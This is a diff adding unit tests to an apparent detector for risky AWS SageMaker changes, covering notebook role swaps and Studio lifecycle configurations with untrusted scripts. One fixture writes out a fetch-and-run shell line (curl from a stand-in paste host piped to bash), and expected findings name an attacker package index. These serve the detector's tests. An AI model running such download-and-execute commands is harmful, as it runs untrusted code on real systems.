@@ -169,6 +169,96 @@ describe('notebook instances', () => {
     expect(update.details).toMatchObject({ role_arn: `arn:aws:iam::${ACCOUNT}:role/Admin` });
     expect(alertsOf([made, update]).map((a) => a.evidence)).toEqual([[update.id]]);
   });
+  const update = (name: string, params: Record<string, unknown>) => rec('UpdateNotebookInstance', { notebookInstanceName: name, ...params });
+  it('an update swapping the role or the lifecycle configuration of an instance seen created with root and no VPC is judged as its creation', () => {
+    const made = create('nb-swap', {});
+    const role = update('nb-swap', { roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` });
+    const [first, a, ...more] = alertsOf([made, role]);
+    expect(more).toEqual([]);
+    expect(first!.evidence).toEqual([made.id]);
+    expect(a!.evidence).toEqual([role.id]);
+    expect(a!.details).toMatchObject({ finding: 'root_internet_no_vpc', changed: ['role_arn'], role_arn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess`, previous_role_arn: `arn:aws:iam::${ACCOUNT}:role/NotebookExec`, root_access: 'Enabled (default)' });
+    const lc = update('nb-swap', { lifecycleConfigName: 'lc-other' });
+    expect(alertsOf([made, lc]).map((x) => x.details?.changed)).toEqual([undefined, ['lifecycle_config_name']]);
+    const off = update('nb-swap', { disassociateLifecycleConfig: true });
+    expect(off.details).toMatchObject({ disassociate_lifecycle_config: true });
+    expect(alertsOf([made, off]).map((x) => x.details?.changed)).toEqual([undefined, ['disassociate_lifecycle_config']]);
+    // Near misses: an instance created in a VPC, or without root, swapping its role; a resize; an instance never seen created.
+    expect(alertsOf([create('nb-vpc2', { subnetId: 'subnet-0abc', directInternetAccess: 'Disabled' }), update('nb-vpc2', { roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` })])).toEqual([]);
+    expect(alertsOf([create('nb-safe', { rootAccess: 'Disabled' }), update('nb-safe', { roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` })])).toEqual([]);
+    expect(alertsOf([made, update('nb-swap', { instanceType: 'ml.t3.large', volumeSizeInGB: 20 })]).map((x) => x.evidence)).toEqual([[made.id]]);
+    expect(alertsOf([update('nb-unseen', { rootAccess: 'Enabled', roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` })])).toEqual([]);
+    // Root taken away by one update, a role swapped by the next: no root, nothing.
+    expect(alertsOf([made, update('nb-swap', { rootAccess: 'Disabled' }), update('nb-swap', { roleArn: `arn:aws:iam::${ACCOUNT}:role/AdminAccess` })]).map((x) => x.evidence)).toEqual([[made.id]]);
+  });
+  it('a lifecycle configuration seen written with untrusted scripts, attached by a create or an update, alerts on the instance (in a VPC too)', () => {
+    const lc = lifecycle('lc-tools', ATTACK);
+    const vpc = create('nb-team', { subnetId: 'subnet-0abc', directInternetAccess: 'Disabled', rootAccess: 'Disabled' });
+    const attach = update('nb-team', { lifecycleConfigName: 'lc-tools' });
+    const alerts = alertsOf([lc, vpc, attach]);
+    expect(alerts.map((a) => a.evidence)).toEqual([[lc.id], [attach.id]]);
+    expect(alerts[1]!.entity).toMatchObject({ type: 'notebook_instance', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/nb-team` });
+    expect(alerts[1]!.details).toMatchObject({
+      finding: 'untrusted_lifecycle_script', operation: 'UpdateNotebookInstance', attached_to: 'notebook instance nb-team', lifecycle_config: 'lc-tools',
+      piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'], package_sources: ['https://pypi.attacker.example/simple'],
+    });
+    // At creation too; an update of the configuration to clean scripts makes the next attachment quiet.
+    expect(alertsOf([lc, create('nb-new', { subnetId: 'subnet-0abc', rootAccess: 'Disabled', lifecycleConfigName: 'lc-tools' })]).map((a) => a.details?.attached_to)).toEqual([undefined, 'notebook instance nb-new']);
+    const lc2 = lifecycle('lc-tools', ATTACK);
+    const cleaned = rec('UpdateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: 'lc-tools', onStart: [{ content: b64(TEAM) }] });
+    const attach2 = update('nb-team', { lifecycleConfigName: 'lc-tools' });
+    expect(alertsOf([lc2, cleaned, attach2]).map((a) => a.evidence)).toEqual([[lc2.id]]);
+    // The team's clean configuration, and one never seen written, attach quietly.
+    expect(alertsOf([lifecycle('lc-team', TEAM), vpc, update('nb-team', { lifecycleConfigName: 'lc-team' }), update('nb-team', { lifecycleConfigName: 'lc-unknown' })])).toEqual([]);
+  });
+});
+
+describe('Studio defaults', () => {
+  const studioLc = (name: string, script: string) =>
+    rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: name, studioLifecycleConfigContent: b64(script), studioLifecycleConfigAppType: 'JupyterLab' }, {
+      responseElements: { studioLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/${name}` },
+    });
+  const arn = (name: string) => `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/${name}`;
+  it('a domain whose default user settings attach a Studio lifecycle configuration seen written with untrusted scripts alerts on the domain', () => {
+    const lc = studioLc('jl-setup', ATTACK);
+    const domain = rec('UpdateDomain', {
+      domainId: 'd-abc123',
+      defaultUserSettings: {
+        jupyterLabAppSettings: { defaultResourceSpec: { instanceType: 'ml.t3.medium', lifecycleConfigArn: arn('jl-setup') }, lifecycleConfigArns: [arn('jl-setup')] },
+        kernelGatewayAppSettings: { lifecycleConfigArns: [arn('kg-team')] },
+      },
+    }, { responseElements: { domainArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:domain/d-abc123` } });
+    expect(domain.details?.studio_lifecycle_config_arns).toEqual([arn('kg-team'), arn('jl-setup')]);
+    const alerts = alertsOf([lc, studioLc('kg-team', TEAM), domain]);
+    expect(alerts.map((a) => a.evidence)).toEqual([[lc.id], [domain.id]]);
+    expect(alerts[1]!.entity).toMatchObject({ type: 'domain', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:domain/d-abc123` });
+    expect(alerts[1]!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', operation: 'UpdateDomain', lifecycle_configs: ['jl-setup'], hooks: ['studio'], attached_to: 'the defaults of every user and space of domain d-abc123' });
+    // Unknown or clean configurations: nothing.
+    expect(alertsOf([studioLc('kg-team', TEAM), domain])).toEqual([]);
+  });
+  it('CreateDomain defaultSpaceSettings, a user profile\'s userSettings and a space\'s spaceSettings likewise', () => {
+    const lc = studioLc('ce-boot', '#!/bin/bash\ncurl -so /tmp/b.sh https://paste.example.net/raw/zz && bash /tmp/b.sh');
+    const created = rec('CreateDomain', {
+      domainName: 'ml', authMode: 'IAM', subnetIds: ['subnet-0abc'], vpcId: 'vpc-1',
+      defaultUserSettings: { executionRole: `arn:aws:iam::${ACCOUNT}:role/StudioExec` },
+      defaultSpaceSettings: { executionRole: `arn:aws:iam::${ACCOUNT}:role/StudioExec`, jupyterServerAppSettings: { defaultResourceSpec: { instanceType: 'system', lifecycleConfigArn: arn('ce-boot') } } },
+    }, { responseElements: { domainArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:domain/d-new111`, url: 'https://d-new111.studio.us-east-1.sagemaker.aws' } });
+    const profile = rec('CreateUserProfile', { domainId: 'd-abc123', userProfileName: 'bob', userSettings: { codeEditorAppSettings: { lifecycleConfigArns: [arn('ce-boot')] } } });
+    const profileUpdate = rec('UpdateUserProfile', { domainId: 'd-abc123', userProfileName: 'carol', userSettings: { jupyterLabAppSettings: { builtInLifecycleConfigArn: arn('ce-boot') } } });
+    const space = rec('CreateSpace', { domainId: 'd-abc123', spaceName: 'team', spaceSettings: { jupyterLabAppSettings: { defaultResourceSpec: { instanceType: 'ml.t3.medium', lifecycleConfigArn: arn('ce-boot') } } } });
+    const alerts = alertsOf([lc, created, profile, profileUpdate, space]);
+    expect(alerts.map((a) => [a.entity.type, a.details?.operation, a.details?.piped_to_shell])).toEqual([
+      ['studio_lifecycle_config', 'CreateStudioLifecycleConfig', ['https://paste.example.net/raw/zz']],
+      ['domain', 'CreateDomain', ['https://paste.example.net/raw/zz']],
+      ['user_profile', 'CreateUserProfile', ['https://paste.example.net/raw/zz']],
+      ['user_profile', 'UpdateUserProfile', ['https://paste.example.net/raw/zz']],
+      ['space', 'CreateSpace', ['https://paste.example.net/raw/zz']],
+    ]);
+    expect(alerts[2]!.details?.attached_to).toBe('user profile bob');
+    // Trusted once listed; a built-in configuration turned off (`None`) attaches nothing.
+    expect(alertsOf([lc, created, profile, space], { [RULE]: { trusted_code_locations: ['https://paste.example.net/*'] } })).toEqual([]);
+    expect(rec('UpdateUserProfile', { domainId: 'd-abc123', userProfileName: 'bob', userSettings: { jupyterLabAppSettings: { builtInLifecycleConfigArn: 'None' } } }).details?.studio_lifecycle_config_arns).toBeUndefined();
+  });
 });
 
 describe('presigned login URLs', () => {
